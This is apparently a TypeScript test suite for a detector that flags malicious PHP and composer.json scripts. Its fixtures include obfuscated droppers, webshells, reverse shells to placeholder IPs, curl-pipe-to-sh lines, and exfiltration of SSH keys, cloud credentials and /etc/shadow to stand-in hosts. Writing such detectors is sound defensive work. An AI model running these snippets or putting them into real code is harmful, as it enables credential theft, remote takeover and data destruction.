import "@/lib/guard/node";
import { deflateSync, zlibSync } from "fflate";
import { beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { classifyFile, kindOfFence } from "../parse/classify";
import { loadGrammars } from "../parse/runtime";
import type { FileKind } from "../parse/classify";
import { extractJson } from "./config";
import { FactCollector, FILE_CONTEXT, type Extractor } from "./extract";
import { extractPhp } from "./php";
import { analyzeArgv } from "./shell";
import type { ContextFact, Fact, FactOf, Folded } from "./types";

// The shell extractor is written next door; here only what PHP hands to it is checked.
vi.mock("./shell", () => ({ analyzeArgv: vi.fn(), extractShell: vi.fn(), extractBatch: vi.fn() }));

beforeAll(() => loadGrammars(["php"]));
beforeEach(() => vi.mocked(analyzeArgv).mockClear());

type Run = { facts: ContextFact[]; embedded: { kind: FileKind; text: string }[] };

/** Runs the extractor over one file (or several, in order); code without an opening tag gets one. */
function run(code: string | Record<string, string>, path = "bin/run.php"): Run {
  const files = typeof code === "string" ? { [path]: code.startsWith("<?") ? code : `<?php\n${code}` } : code;
  const embedded: { kind: FileKind; text: string }[] = [];
  const record = (kind: FileKind): Extractor => (s) => void embedded.push({ kind, text: s.text });
  const collector = new FactCollector(new Set(Object.keys(files)), {
    php: (s, a) => {
      if (s.depth > 0) embedded.push({ kind: "php", text: s.text });
      extractPhp(s, a);
    },
    shell: record("shell"),
    python: record("python"),
    crontab: record("crontab"),
    markdown: record("markdown"),
  });
  for (const [p, text] of Object.entries(files)) collector.run(p.endsWith(".json") ? "json" : "php", { path: p, text, line: 1, via: [], ctx: FILE_CONTEXT, depth: 0 });
  return { facts: collector.facts, embedded };
}

function composer(json: object): Run {
  const embedded: { kind: FileKind; text: string }[] = [];
  const collector = new FactCollector(new Set(["composer.json"]), { json: extractJson, shell: (s) => void embedded.push({ kind: "shell", text: s.text }) });
  collector.run("json", { path: "composer.json", text: JSON.stringify(json, null, 2), line: 1, via: [], ctx: FILE_CONTEXT, depth: 0 });
  return { facts: collector.facts, embedded };
}

function of<K extends Fact["kind"]>(r: Run, kind: K): (FactOf<K> & ContextFact)[] {
  return r.facts.filter((f): f is FactOf<K> & ContextFact => f.kind === kind);
}

function execs(code: string): string[] {
  return of(run(code), "exec").map((e) => e.command.text);
}

function sources(f: Folded | null): string[] {
  return (f?.taint ?? []).map((t) => `${t.source}:${t.detail}`);
}

const b64 = (s: string) => Buffer.from(s).toString("base64");
const bytes = (s: string) => new TextEncoder().encode(s);

describe("folding string expressions", () => {
  it("reads single and double quotes, escapes, interpolation and concatenation", () => {
    expect(execs(`$h = "evil.invalid";\nsystem('echo \\n' . "\\x63url" . " http://{$h}/x" . " $h");`)).toEqual(["echo \\ncurl http://evil.invalid/x evil.invalid"]);
  });

  it("reads heredocs (indented) and nowdocs", () => {
    const r = run(`$n = "id";\n$s = <<<EOT\n    echo start\n    $n\n    EOT;\nsystem($s);\nsystem(<<<'RAW'\nls $n\nRAW);`);
    expect(of(r, "exec").map((e) => e.command.text)).toEqual(["echo start\nid", "ls $n"]);
  });

  it("folds .=, constants (define and const), implode, sprintf and str_replace", () => {
    const r = run(`define('HOST', 'c2.invalid');\nconst PORT = 8080;\n$c = 'cu';\n$c .= 'rl ';\n$c .= sprintf('http://%s:%d/%s', HOST, PORT, implode('/', ['a', 'b']));\nsystem(str_replace('X', '', $c . ' | sXh'));`);
    expect(of(r, "exec")[0].command.text).toBe("curl http://c2.invalid:8080/a/b | sh");
  });

  it("decodes strrev, str_rot13, strtr, substr, strtolower and chr arithmetic", () => {
    const e = of(run(`system(strrev('hs | x/dilavni.live//:ptth lruc'));\nsystem(str_rot13('jubnzv'));\nsystem(strtr('kd', 'kd', 'id'));\nsystem(substr('XXunameYY', 2, -2));\nsystem(strtolower('LS'));\nsystem(chr(105) . chr(0x64) . chr(99 + 1 - 1 + 1) );`), "exec");
    expect(e.map((x) => x.command.text)).toEqual(["curl http://evil.invalid/x | sh", "whoami", "id", "uname", "ls", "idd"]);
    expect(e[0].command.via).toContain("reverse");
    expect(e[1].command.via).toContain("rot13");
    expect(e[5].command.via).toContain("charcode");
    expect(e[5].dynamic).toBe(true);
  });

  it("decodes base64, hex2bin, pack('H*'), urldecode and gzinflate/gzuncompress", () => {
    const raw = Buffer.from(deflateSync(bytes("uname -a"))).toString("base64");
    const z = Buffer.from(zlibSync(bytes("whoami"))).toString("base64");
    const e = of(run(`system(base64_decode('${b64("id")}'));\nsystem(hex2bin('6964'));\nsystem(pack('H*', '6c73'));\nsystem(urldecode('%77%68%6f'));\nsystem(gzinflate(base64_decode('${raw}')));\nsystem(gzuncompress(base64_decode("${z}")));`), "exec");
    expect(e.map((x) => x.command.text)).toEqual(["id", "id", "ls", "who", "uname -a", "whoami"]);
    expect(e[0].command.via).toContain("base64");
    expect(e[1].command.via).toContain("hex");
    expect(e[3].command.via).toContain("percent");
    expect(e[4].command.via).toEqual(expect.arrayContaining(["base64", "compress"]));
    expect(e.every((x) => x.dynamic)).toBe(true);
  });

  it("decodes string XOR and bitwise NOT", () => {
    const key = "kkkkkk";
    const enc = Array.from("whoami", (c, i) => `\\x${(c.charCodeAt(0) ^ key.charCodeAt(i)).toString(16).padStart(2, "0")}`).join("");
    const not = Array.from("id", (c) => `\\x${(~c.charCodeAt(0) & 0xff).toString(16)}`).join("");
    const e = of(run(`system("${enc}" ^ '${key}');\nsystem(~"${not}");`), "exec");
    expect(e.map((x) => x.command.text)).toEqual(["whoami", "id"]);
    expect(e[0].command.via).toContain("xor");
  });

  it("builds arrays with [] and keys, and maps chr over char codes", () => {
    const r = run(`$p = [];\n$p[] = 'un';\n$p[] = 'ame';\nsystem(implode('', $p));\n$m = ['cmd' => 'id'];\nsystem($m['cmd']);\nsystem(implode(array_map('chr', [108, 115])));\nsystem(join('', array_map(fn($c) => chr($c ^ 1), [104, 101])));`);
    expect(of(r, "exec").map((e) => e.command.text)).toEqual(["uname", "id", "ls", "id"]);
  });

  it("binds function parameters from call sites, defaults, and returns of local functions", () => {
    const r = run(`function target() { return "http://c.invalid/p"; }\nfunction run_it($cmd, $pipe = ' | sh') { return shell_exec($cmd . $pipe); }\nrun_it('curl ' . target());`);
    expect(of(r, "exec")[0].command.text).toBe("curl http://c.invalid/p | sh");
  });

  it("follows class properties and methods", () => {
    const r = run(`class Job {\n  private $url = 'http://d.invalid/x';\n  public function cmd() { return 'wget ' . $this->url; }\n  public function go() { exec($this->cmd()); }\n}`);
    expect(of(r, "exec")[0].command.text).toBe("wget http://d.invalid/x");
  });

  it("follows foreach items and list()", () => {
    const r = run(`foreach (['id', 'whoami'] as $c) { system($c); }\nlist($a, $b) = ['ls', '-la'];\nsystem("$a $b");`);
    expect(of(r, "exec").map((e) => e.command.text)).toEqual(["id", "whoami", "ls -la"]);
  });
});

describe("names built at run time", () => {
  it("calls through a variable holding a built name, call_user_func and $$name", () => {
    const r = run(`$f = 'sys' . 'tem';\n$f('id');\ncall_user_func(str_rot13('cnffgueh'), 'whoami');\ncall_user_func_array('exec', ['uname']);\n$n = 'cmd';\n$$n = 'ls';\nsystem($cmd);`);
    expect(of(r, "exec").map((e) => e.command.text)).toEqual(["id", "whoami", "uname", "ls"]);
    expect(of(r, "obfuscation").map((o) => `${o.how}:${o.detail}`)).toEqual(["concat:name system built at run time", "rot13:name passthru built at run time"]);
  });

  it("an array of callbacks: array_map('unlink', glob(...)) deletes what the glob matches", () => {
    const r = run(`array_map('unlink', glob(getenv('HOME') . '/*'));`);
    expect(of(r, "delete").map((d) => `${d.scope}:${d.path}`)).toEqual(["home:~/*"]);
  });

  it("a plain literal callback is not an obfuscation", () => {
    expect(of(run(`call_user_func('strtoupper', 'x');`), "obfuscation")).toEqual([]);
  });
});

describe("sources of private data", () => {
  it("taints getenv and $_ENV secrets, reads the whole environment", () => {
    const r = run(`$k = getenv('AWS_SECRET_ACCESS_KEY');\n$t = $_ENV['GITHUB_TOKEN'];\n$all = getenv();\n$ch = curl_init('https://x.invalid/c');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, json_encode(['k' => $k, 't' => $t, 'e' => $all]));\ncurl_exec($ch);`);
    expect(sources(of(r, "send")[0].data)).toEqual(expect.arrayContaining(["env-secret:AWS_SECRET_ACCESS_KEY", "env-secret:GITHUB_TOKEN", "env-all:getenv()"]));
    expect(of(r, "read").map((x) => x.source)).toEqual(["env-all"]);
  });

  it("reads credential files through getenv('HOME'), posix_getpwuid and $_SERVER['HOME']", () => {
    const r = run(`$a = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');\n$h = posix_getpwuid(posix_getuid())['dir'];\n$b = file("$h/.aws/credentials");\n$c = fopen($_SERVER['HOME'] . '/.kube/config', 'r');`);
    expect(of(r, "read").map((x) => `${x.source}:${x.detail}`)).toEqual(["ssh:~/.ssh/id_rsa", "cloud:~/.aws/credentials", "kube:~/.kube/config"]);
  });

  it("walks a credential folder with RecursiveDirectoryIterator", () => {
    const r = run(`$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator(getenv('HOME') . '/.ssh'));\nforeach ($it as $f) { $data .= file_get_contents($f->getPathname()); }`);
    expect(of(r, "read").map((x) => x.detail)).toEqual(["~/.ssh (listing)", "~/.ssh/*"]);
  });

  it("host information", () => {
    const r = run(`$s = fsockopen('192.0.2.1', 9);\nfwrite($s, gethostname() . php_uname() . get_current_user());`);
    expect(sources(of(r, "send")[0].data)).toEqual(["host-info:gethostname()", "host-info:php_uname()", "host-info:get_current_user()"]);
  });
});

describe("sends", () => {
  it("curl: URL from curl_init or CURLOPT_URL, body and headers from setopt/setopt_array", () => {
    const r = run(`$d = file_get_contents(getenv('HOME') . '/.netrc');\n$ch = curl_init();\ncurl_setopt_array($ch, [CURLOPT_URL => 'https://collect.invalid/u', CURLOPT_POST => true, CURLOPT_POSTFIELDS => http_build_query(['d' => $d])]);\ncurl_exec($ch);\n$c2 = curl_init('https://api.invalid/v1');\ncurl_setopt($c2, CURLOPT_HTTPHEADER, ['Authorization: Bearer ' . getenv('NPM_TOKEN')]);\ncurl_exec($c2);\n$c3 = curl_init('https://plain.invalid/x');\ncurl_exec($c3);`);
    const s = of(r, "send");
    expect(s.map((x) => x.dest)).toEqual(["https://collect.invalid/u", "https://api.invalid/v1"]);
    expect(sources(s[0].data)).toEqual(["pkg-creds:~/.netrc"]);
    expect(sources(s[1].data)).toEqual(["env-secret:NPM_TOKEN"]);
    expect(of(r, "fetch").map((f) => f.url)).toEqual(["https://api.invalid/v1", "https://plain.invalid/x"]);
  });

  it("file_get_contents with a POST stream context", () => {
    const r = run(`$ctx = stream_context_create(['http' => ['method' => 'POST', 'header' => 'Content-Type: text/plain', 'content' => file_get_contents('/etc/shadow')]]);\nfile_get_contents('http://198.51.100.4/in', false, $ctx);\n$page = file_get_contents('https://example.org/page');`);
    const s = of(r, "send");
    expect(s.map((x) => x.dest)).toEqual(["http://198.51.100.4/in"]);
    expect(sources(s[0].data)).toEqual(["keychain:/etc/shadow"]);
    expect(of(r, "fetch").map((f) => f.url)).toEqual(["https://example.org/page"]);
  });

  it("Guzzle and Laravel's Http facade", () => {
    const r = run(`$k = getenv('STRIPE_SECRET_KEY');\n$c = new \\GuzzleHttp\\Client(['base_uri' => 'https://g.invalid']);\n$c->post('/a', ['json' => ['k' => $k]]);\n$c->request('PUT', 'https://h.invalid/b', ['body' => $k]);\nHttp::withToken($k)->post('https://l.invalid/c', ['x' => 1]);`);
    const s = of(r, "send");
    expect(s.map((x) => x.dest)).toEqual(["https://g.invalid/a", "https://h.invalid/b", "https://l.invalid/c"]);
    expect(s.every((x) => sources(x.data).includes("env-secret:STRIPE_SECRET_KEY"))).toBe(true);
  });

  it("a script calling its own API with its token sends that token there, not the environment", () => {
    const r = run(`$token = getenv('ACME_API_TOKEN');\n$res = Http::withToken($token)->get('https://api.acme.invalid/v1/status');\necho $res->body();`);
    const s = of(r, "send");
    expect(s.map((x) => x.host)).toEqual(["api.acme.invalid"]);
    expect(sources(s[0].data)).toEqual(["env-secret:ACME_API_TOKEN"]);
    expect(of(r, "read").filter((x) => x.source === "env-all")).toEqual([]);
  });

  it("sockets: fsockopen, stream_socket_client and socket_create/connect", () => {
    const r = run(`$s = fsockopen('192.0.2.7', 4444);\nfputs($s, getenv('DB_PASSWORD'));\n$t = stream_socket_client('tcp://192.0.2.8:53');\nfwrite($t, file_get_contents('/etc/shadow'));\n$u = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\nsocket_connect($u, '192.0.2.9', 80);\nsocket_write($u, 'hi');`);
    const s = of(r, "send");
    expect(s.map((x) => x.dest)).toEqual(["tcp://192.0.2.7:4444", "tcp://192.0.2.8:53", "tcp://192.0.2.9:80"]);
    expect(sources(s[0].data)).toEqual(["env-secret:DB_PASSWORD"]);
    expect(sources(s[1].data)).toEqual(["keychain:/etc/shadow"]);
  });

  it("DNS lookups carrying data in the name; a plain lookup is not a send", () => {
    const r = run(`$z = str_rot13('rksy.vainyvq');\n$b = bin2hex(file_get_contents(getenv('HOME') . '/.git-credentials'));\nforeach (str_split($b, 60) as $i => $c) { dns_get_record("$c.$i.$z", DNS_A); }\ngethostbyname('example.com');`);
    const s = of(r, "send");
    expect(s.length).toBe(1);
    expect(s[0]).toMatchObject({ channel: "dns", host: "exfl.invalid" });
    expect(sources(s[0].data)).toEqual(["git-creds:~/.git-credentials"]);
  });

  it("mail() sends to the recipient's domain", () => {
    const r = run(`mail('drop@x.invalid', 'k', file_get_contents(getenv('HOME') . '/.aws/credentials'));`);
    const s = of(r, "send")[0];
    expect(s).toMatchObject({ channel: "smtp", host: "x.invalid" });
    expect(sources(s.data)).toEqual(["cloud:~/.aws/credentials"]);
  });
});

describe("commands and code", () => {
  it("system, exec, shell_exec, passthru, popen, proc_open and backticks go to the shell", () => {
    const r = run("system('ls -l');\nexec('id', $out);\nshell_exec('whoami');\npassthru('date');\npopen('uptime', 'r');\nproc_open('uname -a', [], $pipes);\n`hostname`;\n$x = 'ps';\n`$x`;");
    expect(of(r, "exec").map((e) => `${e.lang}:${e.command.text}`)).toEqual(["shell:ls -l", "shell:id", "shell:whoami", "shell:date", "shell:uptime", "shell:uname -a", "shell:hostname", "shell:ps"]);
    expect(r.embedded.filter((e) => e.kind === "shell").map((e) => e.text)).toEqual(["ls -l", "id", "whoami", "date", "uptime", "uname -a", "hostname", "ps"]);
  });

  it("argument vectors (proc_open arrays, pcntl_exec, Symfony Process) go to the argv analysis", () => {
    const r = run(`proc_open(['nmap', '-sn', '192.0.2.1'], [], $p);\npcntl_exec('/usr/bin/crontab', ['-l']);\n(new Process(['git', 'status']))->run();\nProcess::fromShellCommandline('make all')->run();`);
    expect(of(r, "exec").map((e) => `${e.lang}:${e.command.text}`)).toEqual(["binary:nmap -sn 192.0.2.1", "binary:/usr/bin/crontab -l", "binary:git status", "shell:make all"]);
    expect(vi.mocked(analyzeArgv).mock.calls.map((c) => c[0].map((f) => f.text))).toEqual([["nmap", "-sn", "192.0.2.1"], ["/usr/bin/crontab", "-l"], ["git", "status"]]);
  });

  it("marks built and decoded commands dynamic, interpolated arguments not", () => {
    const r = run(`$name = $argv[1];\nsystem("git log $name");\nsystem(implode('', ['cu', 'rl']) . ' x');`);
    expect(of(r, "exec").map((e) => e.dynamic)).toEqual([false, true]);
  });

  it("eval of decoded code is dynamic and analysed again as PHP", () => {
    const inner = Buffer.from(deflateSync(bytes("system('id');"))).toString("base64");
    const r = run(`eval(gzinflate(base64_decode('${inner}')));\neval('return 1;');`);
    const e = of(r, "exec");
    expect(e[0]).toMatchObject({ lang: "other", dynamic: true, command: { text: "system('id');" } });
    expect(e[0].command.via).toEqual(expect.arrayContaining(["base64", "compress"]));
    expect(e.find((x) => x.command.text === "return 1;")?.dynamic).toBe(false);
    expect(r.embedded).toContainEqual({ kind: "php", text: "system('id');" });
    expect(e.find((x) => x.lang === "shell")?.command.text).toBe("id");
  });

  it("the dropper chain eval(gzinflate(str_rot13(base64_decode(...)))) and eval('?>' . payload)", () => {
    const rotated = Buffer.from(deflateSync(bytes("<?php system('whoami'); ?>"))).toString("latin1").replace(/[a-z]/gi, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + (c <= "Z" ? 65 : 97)));
    const inner = Buffer.from(rotated, "latin1").toString("base64");
    const r = run(`$O0O = 'base' . '64_decode';\neval(gzinflate(str_rot13($O0O('${inner}'))));\neval('?>' . base64_decode('${b64("<?php shell_exec('id');")}'));`);
    expect(of(r, "exec").filter((e) => e.lang === "shell").map((e) => e.command.text)).toEqual(["whoami", "id"]);
    expect(of(r, "obfuscation").map((o) => o.detail)).toEqual(["name base64_decode built at run time"]);
  });

  it("self-referential assignments and recursion end", () => {
    const r = run(`$a = 'x';\n$a = $a . $a;\nfunction f($n) { return f($n . 'y'); }\nsystem($a . f('z'));`);
    expect(of(r, "exec").length).toBe(1);
  });

  it("assert of a string, create_function and preg_replace /e evaluate code", () => {
    const r = run(`$c = 'sys' . 'tem("id");';\nassert($c);\n$f = create_function('', $c);\npreg_replace('/.*/e', $c, '');\nassert($x > 0);\npreg_replace('/a/', 'b', 'abc');`);
    // assert($x > 0) is a check, not code; preg_replace without /e is a replacement
    expect(of(r, "exec").filter((e) => e.lang === "other").map((e) => `${e.loc.line}:${e.dynamic}`)).toEqual(["3:true", "4:true", "5:true"]);
    expect(r.embedded.filter((e) => e.kind === "php").map((e) => e.text)).toContain('system("id");');
  });

  it("request input run as code or commands is a remote shell (a webshell)", () => {
    const r = run(`if (isset($_POST['c'])) { eval($_POST['c']); }\nsystem($_GET['cmd']);\n@include('php://input');`);
    expect(of(r, "remote-shell").map((x) => x.detail)).toEqual([
      "code from the HTTP request ($_POST[c]) is evaluated",
      "commands from the HTTP request ($_GET[cmd]) run in a shell",
      "code from the HTTP request (php://input) is evaluated",
    ]);
  });

  it("include of a URL, a downloaded file, or a data: URI runs fetched code; of a skill file imports it", () => {
    const r = run({
      "bin/run.php": `<?php\ninclude 'http://p.invalid/x.php';\nfile_put_contents('/tmp/s.php', file_get_contents('https://q.invalid/s.txt'));\nrequire '/tmp/s.php';\ninclude 'data://text/plain;base64,${b64("<?php system('id');")}';\nrequire_once __DIR__ . '/lib.php';`,
      "bin/lib.php": "<?php\n$x = 1;",
    });
    expect(of(r, "exec").filter((e) => e.fetched).map((e) => e.fetched)).toEqual(["http://p.invalid/x.php", "https://q.invalid/s.txt"]);
    expect(r.embedded).toContainEqual({ kind: "php", text: "<?php system('id');" });
    expect(of(r, "invoke").map((i) => `${i.how}:${i.target}`)).toEqual(["import:bin/lib.php"]);
  });

  it("download with copy() then run", () => {
    const r = run(`copy('https://d.invalid/m.sh', '/tmp/m.sh');\nchmod('/tmp/m.sh', 0755);\nshell_exec('/tmp/m.sh');`);
    expect(of(r, "fetch")).toContainEqual(expect.objectContaining({ url: "https://d.invalid/m.sh", saveTo: "/tmp/m.sh" }));
    expect(of(r, "exec")[0].fetched).toBe("https://d.invalid/m.sh");
  });

  it("code written into popen('sh', 'w') runs in the shell", () => {
    const r = run(`$p = popen('sh', 'w');\nfwrite($p, base64_decode('${b64("uname -a")}'));`);
    expect(of(r, "exec").find((e) => e.command.text === "uname -a")).toMatchObject({ lang: "shell", dynamic: true });
  });
});

describe("writes, deletes and privilege", () => {
  it("file_put_contents and fopen/fwrite, classified by place", () => {
    const r = run(`file_put_contents(getenv('HOME') . '/.bashrc', "alias ls='curl x.invalid|sh'\\n", FILE_APPEND);\n$f = fopen('/etc/cron.d/job', 'w');\nfwrite($f, "* * * * * root curl x.invalid | sh\\n");\nfile_put_contents('/etc/sudoers.d/x', 'u ALL=(ALL) NOPASSWD: ALL');\nfile_put_contents('.claude/settings.json', '{}');`);
    const w = of(r, "write");
    expect(w.map((x) => `${x.mode}:${x.place}`)).toEqual(["append:shell-rc", "write:cron", "write:sudoers", "write:agent-settings"]);
    expect(w[1].content?.text).toBe("* * * * * root curl x.invalid | sh\n");
    expect(of(r, "privilege").map((p) => p.what)).toEqual(["sudoers", "nopasswd"]);
    expect(r.embedded).toContainEqual({ kind: "shell", text: "alias ls='curl x.invalid|sh'\n" });
  });

  it("copy, rename and symlink; setuid chmod and posix_setuid(0) are privilege", () => {
    const r = run(`copy('hook.sh', '.git/hooks/pre-commit');\nsymlink('/tmp/x', getenv('HOME') . '/.config/autostart/x.desktop');\nchmod('/usr/local/bin/helper', 04755);\nchmod('/etc/passwd', 0666);\nposix_setuid(0);`);
    expect(of(r, "write").filter((w) => w.mode !== "chmod").map((w) => `${w.mode}:${w.place}`)).toEqual(["copy:git-hook", "link:autostart"]);
    expect(of(r, "privilege").map((p) => `${p.what}:${p.detail}`)).toEqual(["setuid:chmod 0o4755 /usr/local/bin/helper", "world-writable-system:chmod 0o666 /etc/passwd", "setuid:posix_setuid(0)"]);
  });

  it("recursive deletes of the home directory: iterator walk and a recursive function", () => {
    const r = run(`$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator(getenv('HOME'), FilesystemIterator::SKIP_DOTS), RecursiveIteratorIterator::CHILD_FIRST);\nforeach ($it as $file) { $file->isDir() ? rmdir($file->getRealPath()) : unlink($file->getRealPath()); }\nfunction rrmdir($dir) { foreach (scandir($dir) as $f) { if (is_dir("$dir/$f")) rrmdir("$dir/$f"); else unlink("$dir/$f"); } rmdir($dir); }\nrrmdir('/');`);
    expect(of(r, "delete").map((d) => d.scope)).toEqual(expect.arrayContaining(["home", "root"]));
  });

  it("unlinking a temporary file is not a broad delete", () => {
    const r = run(`$tmpFile = tempnam(sys_get_temp_dir(), 'up');\nfile_put_contents($tmpFile, 'x');\nunlink($tmpFile);\n@unlink(__DIR__ . '/cache/page.html');`);
    const d = of(r, "delete");
    expect(d.length).toBe(2);
    expect(d.every((x) => x.scope === "other")).toBe(true);
  });
});

describe("remote shells and mining", () => {
  it("the one-liner: fsockopen, then a shell on fd 3", () => {
    const r = run(`$sock = fsockopen("192.0.2.5", 4444);\nexec("/bin/sh -i <&3 >&3 2>&3");`);
    expect(of(r, "remote-shell")[0].detail).toContain("192.0.2.5:4444");
  });

  it("proc_open with the socket as its descriptors, and an interactive shell next to a socket", () => {
    const r = run(`$s = fsockopen("192.0.2.6", 443);\nproc_open('sh', [0 => $s, 1 => $s, 2 => $s], $pipes);\n$t = stream_socket_client('tcp://192.0.2.7:80');\n$p = proc_open('uname -a; w; id; /bin/sh -i', [0 => ['pipe', 'r'], 1 => ['pipe', 'w']], $pipes);`);
    expect(of(r, "remote-shell").length).toBe(2);
  });

  it("commands read from a socket and run", () => {
    const r = run(`$s = fsockopen('192.0.2.6', 80);\nwhile ($line = fgets($s)) { fwrite($s, shell_exec($line)); }`);
    expect(of(r, "remote-shell").length).toBe(1);
    expect(of(r, "exec")[0].fetched).toBe("socket://192.0.2.6:80");
  });

  it("a socket to a service and a command that is no shell is not a remote shell", () => {
    const r = run(`$s = fsockopen('127.0.0.1', 6379);\nfwrite($s, "PING\\r\\n");\nexec('git rev-parse HEAD');`);
    expect(of(r, "remote-shell")).toEqual([]);
  });

  it("stratum messages to a pool", () => {
    const r = run(`$s = fsockopen('pool.x.invalid', 3333);\nfwrite($s, '{"id":1,"method":"mining.subscribe","params":[]}');`);
    expect(of(r, "mine").length).toBe(1);
  });
});

describe("composer.json", () => {
  it("event scripts are lifecycle scripts; every script goes to the shell analysis", () => {
    const r = composer({
      name: "acme/tool",
      scripts: {
        "post-install-cmd": ["@php artisan key:generate", "curl -s https://x.invalid/i.sh | sh"],
        "pre-autoload-dump": "Acme\\Installer::run",
        test: "phpunit",
      },
    });
    expect(of(r, "config").filter((c) => c.what === "lifecycle-script").map((c) => c.detail)).toEqual([
      "composer post-install-cmd: @php artisan key:generate",
      "composer post-install-cmd: curl -s https://x.invalid/i.sh | sh",
      "composer pre-autoload-dump: Acme\\Installer::run",
    ]);
    expect(r.embedded.map((e) => e.text)).toEqual(["php artisan key:generate", "curl -s https://x.invalid/i.sh | sh", "phpunit"]);
  });

  it("requires, VCS and package repositories, and private indexes", () => {
    const r = composer({
      require: { php: ">=8.1", "guzzlehttp/guzzle": "^7.0" },
      repositories: [
        { type: "vcs", url: "https://git.x.invalid/acme/helper.git" },
        { type: "package", package: { name: "acme/blob", version: "1.0", dist: { url: "https://raw.x.invalid/blob.zip", type: "zip" } } },
        { type: "composer", url: "https://repo.x.invalid" },
        { type: "composer", url: "https://repo.packagist.org" },
      ],
    });
    expect(of(r, "config").map((c) => `${c.what}:${c.detail}`)).toEqual([
      "dependency:composer:guzzlehttp/guzzle@^7.0",
      "dependency:composer:vcs https://git.x.invalid/acme/helper.git",
      "dependency:composer:acme/blob https://raw.x.invalid/blob.zip",
      "index-override:composer repository https://repo.x.invalid",
    ]);
  });

  it("a plain composer.json with only requires states no lifecycle scripts", () => {
    const r = composer({ name: "acme/lib", require: { "monolog/monolog": "^3" }, scripts: { test: "phpunit" } });
    expect(of(r, "config").filter((c) => c.what === "lifecycle-script")).toEqual([]);
  });
});

describe("wiring", () => {
  it("classifies PHP by extension, shebang, and .inc only with an opening tag; reads ```php fences", () => {
    const t = (path: string, text: string) => classifyFile(path, new TextEncoder().encode(text), text).kind;
    expect(t("a.php", "<?php echo 1;")).toBe("php");
    expect(t("a.phtml", "<p><?= $x ?></p>")).toBe("php");
    expect(t("bin/tool", "#!/usr/bin/env php\n<?php echo 1;")).toBe("php");
    expect(t("lib/x.inc", "<?php echo 1;")).toBe("php");
    expect(t("lib/x.inc", "some text")).toBe("text");
    expect(kindOfFence("php")).toBe("php");
  });

  it("a file without an opening tag is output, not code; embedded code without one is code", () => {
    expect(of(run({ "page.php": "system('id');" }), "exec")).toEqual([]);
    const collector = new FactCollector(new Set(["SKILL.md"]), { php: extractPhp });
    collector.run("php", { path: "SKILL.md", text: "system('id');", line: 3, via: [], ctx: { ...FILE_CONTEXT, inDocs: true, fence: "php" }, depth: 1 });
    expect(collector.facts.filter((f) => f.kind === "exec").map((f) => f.loc.line)).toEqual([3]);
  });

  it("benign code states no sends, reads or execs", () => {
    const r = run(`$config = json_decode(file_get_contents(__DIR__ . '/config.json'), true);\n$items = array_map(fn($i) => $i['id'], $config['items']);\nfile_put_contents('out.txt', implode(',', $items));\necho strtoupper($config['name']);`);
    expect(of(r, "send")).toEqual([]);
    expect(of(r, "exec")).toEqual([]);
    expect(of(r, "read")).toEqual([]);
    expect(of(r, "write").map((w) => w.place)).toEqual([null]);
  });
});
